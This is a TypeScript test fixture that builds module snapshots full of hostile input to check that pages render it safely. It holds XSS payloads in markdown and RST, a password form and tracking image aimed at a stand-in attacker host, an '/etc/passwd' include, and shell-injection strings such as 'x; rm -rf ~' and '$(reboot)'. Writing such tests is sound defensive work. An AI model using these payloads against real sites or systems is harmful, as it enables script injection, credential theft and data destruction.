// Modules of people who mean harm: markup in every text, descriptions that would run something, names
// that would leave a shell's line. A snapshot of them is what pages are tried with.
import { mkdir, utimes } from "node:fs/promises";
import { join } from "node:path";
import { publishSnapshot } from "../../../builder/assemble/publish.js";
import type { ModuleParts } from "../../../data/module/module-parts.js";
import type { ModuleRecord } from "../../../data/module/records.js";
import { compareRecords } from "../../../data/snapshot/encode.js";
import { ENTRY_FILE } from "../../../data/snapshot/format.js";
import { encodeTerms } from "../../../data/snapshot/table/word-sections.js";
import { buildTermIndex } from "../../../data/text/term-index.js";
import { NO_PARTS } from "../../support/module-parts.js";
import { createContents, createRecord } from "../../support/module-records.js";

/** Sets a title where it runs, which tests look for; the tag itself is looked for too. */
export const ATTACK = `"'><script>document.title="harmed"</script><img src=x onerror=document.title="harmed">`;

export const HOSTILE_MARKDOWN = `# Title <script>document.title="harmed"</script>

[a link](javascript:document.title="harmed") and [another](JaVaScRiPt:alert(1)) and [data](data:text/html,x)
[inside](/metrics) [other host](//evil.example.org/x) [fine](https://example.org/fine)

<img src="https://evil.example.org/track.png" onerror="document.title='harmed'" alt="a picture">
<a href="https://example.org" onclick="document.title='harmed'" style="position:fixed;inset:0" id="q" class="button">x</a>
<iframe src="https://evil.example.org"></iframe><object data="x"></object><embed src="x">
<form action="https://evil.example.org"><input name="password"><button>Send</button></form>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example.org/x.css">
<svg><script>document.title="harmed"</script><a xlink:href="javascript:alert(1)">x</a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=document.title="harmed"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=document.title='harmed'>"></noscript>
<base href="https://evil.example.org/"><meta http-equiv="refresh" content="0;url=https://evil.example.org">
</div></section></main><h1>Outside</h1>
`;

export const HOSTILE_RST = `Title
=====

.. raw:: html

   <script>document.title="harmed"</script>

.. include:: /etc/passwd

.. image:: javascript:document.title="harmed"
   :alt: " onerror="document.title='harmed'

.. _name: javascript:document.title="harmed"

\`text <javascript:document.title="harmed">\`_ and name_ and <script>document.title="harmed"</script>

:raw-html:\`<img src=x onerror=document.title="harmed">\` and https://example.org/"onmouseover="x
`;

export const HOSTILE_RECORDS: readonly ModuleRecord[] = [
  createRecord({
    technical_name: "hostile_markdown",
    name: ATTACK,
    summary: ATTACK,
    description: HOSTILE_MARKDOWN,
    website: "javascript:document.title='harmed'",
    license: ATTACK,
    category: ATTACK,
    authors: [ATTACK],
    maintainers: [ATTACK],
    committers: [ATTACK],
    development_status: ATTACK,
    source_path: ATTACK,
    declared_dependencies: {
      platform: ["hostile_rst", ATTACK],
      pip: ["x; rm -rf ~", "$(reboot)"],
      bin: ["-rf", "a b"],
    },
    views: [
      {
        xml_id: ATTACK,
        name: ATTACK,
        model: ATTACK,
        inherit_xml_id: `x.${ATTACK}`,
        is_new: true,
        view_type: ATTACK,
        file: ATTACK,
        line: 1,
      },
    ],
    models: [
      {
        model_name: ATTACK,
        class_name: ATTACK,
        inherit_from: [ATTACK, "x"],
        is_new_model: true,
        docstring: ATTACK,
        attrs: { kind: "Model", description: ATTACK },
        file: ATTACK,
        line: 1,
        fields: [
          {
            name: ATTACK,
            field_type: ATTACK,
            relation: ATTACK,
            line: 2,
            attrs: { [ATTACK]: ATTACK },
          },
        ],
        methods: [
          { name: ATTACK, decorators: [ATTACK], signature: ATTACK, line: 3, docstring: ATTACK },
        ],
      },
    ],
  }),
  createRecord({ technical_name: "hostile_rst", name: "Rst", description: HOSTILE_RST }),
  createRecord({
    technical_name: "hostile_rst",
    name: ATTACK,
    platform_version: "16.0",
    description: ATTACK,
  }),
];

const ATTACK_PERMISSIONS = {
  perm_read: true,
  perm_write: null,
  perm_create: false,
  perm_unlink: null,
} as const;

const ATTACK_PLACE = { file: ATTACK, line: 1 } as const;

/** Parts of `hostile_markdown`. */
const HOSTILE_PARTS: ModuleParts = {
  controllers: [
    {
      class_name: ATTACK,
      inherit_from: [ATTACK],
      ...ATTACK_PLACE,
      routes: [
        {
          name: ATTACK,
          paths: [ATTACK],
          type: ATTACK,
          auth: ATTACK,
          methods: [ATTACK],
          csrf: false,
          website: true,
          cors: ATTACK,
          line: 1,
          attrs: { [ATTACK]: ATTACK },
        },
      ],
    },
  ],
  groups: [
    {
      xml_id: ATTACK,
      name: ATTACK,
      category: ATTACK,
      implied: [ATTACK],
      comment: ATTACK,
      ...ATTACK_PLACE,
    },
  ],
  access: [
    {
      xml_id: ATTACK,
      name: ATTACK,
      model: ATTACK,
      group: ATTACK,
      ...ATTACK_PERMISSIONS,
      ...ATTACK_PLACE,
    },
  ],
  rules: [
    {
      xml_id: ATTACK,
      name: ATTACK,
      model: ATTACK,
      domain: ATTACK,
      groups: [ATTACK],
      ...ATTACK_PERMISSIONS,
      ...ATTACK_PLACE,
    },
  ],
  crons: [
    {
      xml_id: ATTACK,
      name: ATTACK,
      model: ATTACK,
      interval_number: 1,
      interval_type: ATTACK,
      code: ATTACK,
      function: ATTACK,
      active: false,
      ...ATTACK_PLACE,
    },
  ],
  menus: [
    {
      xml_id: ATTACK,
      name: ATTACK,
      parent: ATTACK,
      action: ATTACK,
      sequence: 1,
      groups: [ATTACK],
      ...ATTACK_PLACE,
    },
  ],
  actions: [
    {
      xml_id: ATTACK,
      name: ATTACK,
      type: ATTACK,
      model: ATTACK,
      view_mode: ATTACK,
      ...ATTACK_PLACE,
    },
  ],
  assets: [
    {
      bundle: ATTACK,
      directive: ATTACK,
      path: ATTACK,
      target: ATTACK,
      xml_id: ATTACK,
      ...ATTACK_PLACE,
    },
  ],
  scripts: [
    {
      module_id: ATTACK,
      alias: ATTACK,
      imports: [{ from: ATTACK, names: [ATTACK] }],
      exports: [ATTACK],
      classes: [
        {
          name: ATTACK,
          extends: ATTACK,
          extends_from: ATTACK,
          template: ATTACK,
          props: [ATTACK],
          components: [ATTACK],
          services: [ATTACK],
          methods: [ATTACK],
          line: 1,
        },
      ],
      functions: [{ name: ATTACK, line: 1 }],
      patches: [
        {
          target: ATTACK,
          name: ATTACK,
          from: ATTACK,
          services: [ATTACK],
          methods: [ATTACK],
          line: 1,
        },
      ],
      registry: [
        { category: ATTACK, key: ATTACK, use: "add", value: ATTACK, force: true, line: 1 },
      ],
      ...ATTACK_PLACE,
    },
  ],
  readme: [
    { section: "usage", format: "md", text: HOSTILE_MARKDOWN, file: ATTACK },
    { section: "history", format: "rst", text: HOSTILE_RST, file: ATTACK },
  ],
  migrations: [
    {
      version: ATTACK,
      phase: "pre",
      steps: [{ call: ATTACK, thing: "column", on: ATTACK, names: [ATTACK, ATTACK], line: 1 }],
      ...ATTACK_PLACE,
    },
  ],
  images: [{ kind: "icon", file: ATTACK }],
};

/** Records of the older snapshot: one module was removed since, one is older, the third is new. */
const OLDER_RECORDS: readonly ModuleRecord[] = [
  createRecord({ technical_name: "hostile_gone", name: ATTACK }),
  createRecord({ technical_name: "hostile_rst", name: ATTACK, version: ATTACK }),
];

/** Writes two snapshots into `out`, without an embedder; that of `HOSTILE_RECORDS` is the newer. */
export async function writeHostileSnapshot(out: string): Promise<void> {
  await mkdir(out, { recursive: true });
  // A time that differs from the next one on every file system.
  await utimes(join(await publish(out, OLDER_RECORDS), ENTRY_FILE), 1_000, 1_000);
  await publish(out, HOSTILE_RECORDS);
}

async function publish(out: string, records: readonly ModuleRecord[]): Promise<string> {
  const sorted = records.toSorted(compareRecords);
  const parts = sorted.map(({ technical_name: name }) =>
    name === "hostile_markdown" ? HOSTILE_PARTS : NO_PARTS,
  );
  const contents = createContents(records, { parts, terms: encodeTerms(buildTermIndex(sorted)) });
  return (await publishSnapshot(contents, { out, program: "0.0.0-test" })).folder;
}
